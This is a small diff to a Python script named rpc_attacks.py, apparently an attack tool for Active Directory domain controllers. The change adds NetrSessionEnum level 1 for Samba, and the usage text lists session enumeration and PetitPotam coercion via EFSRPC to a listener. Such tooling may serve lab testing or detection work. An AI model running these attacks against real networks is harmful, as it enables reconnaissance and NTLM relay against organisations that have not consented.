@@ -3,7 +3,7 @@
 
 usage: rpc_attacks.py ATTACK DC_IP DOMAIN USER LISTENER     (password in $RPC_PASSWORD)
 
-  sessions    SRVSVC NetrSessionEnum (levels 10 and 502), NetrShareEnum (levels 1 and 2) and
+  sessions    SRVSVC NetrSessionEnum (levels 10, 502 and 1), NetrShareEnum (levels 1 and 2) and
               WKSSVC NetrWkstaUserEnum (level 1): what netview, SharpHound and BloodHound's
               session collection ask a computer
   efsrpc      PetitPotam: EFSRPC EfsRpcOpenFileRaw (opnum 0) and EfsRpcEncryptFileSrv (opnum 4)
@@ -104,7 +104,8 @@ def call(label, dce, request):
 
 def sessions(dc_ip, domain, user, password, _listener):
     dce = pipe(dc_ip, "srvsvc", domain, user, password, srvs.MSRPC_UUID_SRVS)
-    for level in (10, 502):
+    # 10 and 502 are what netview and SharpHound ask; Samba answers level 1 only (and 0).
+    for level in (10, 502, 1):
         request = srvs.NetrSessionEnum()
         request["ServerName"] = NULL
         request["ClientName"] = NULL
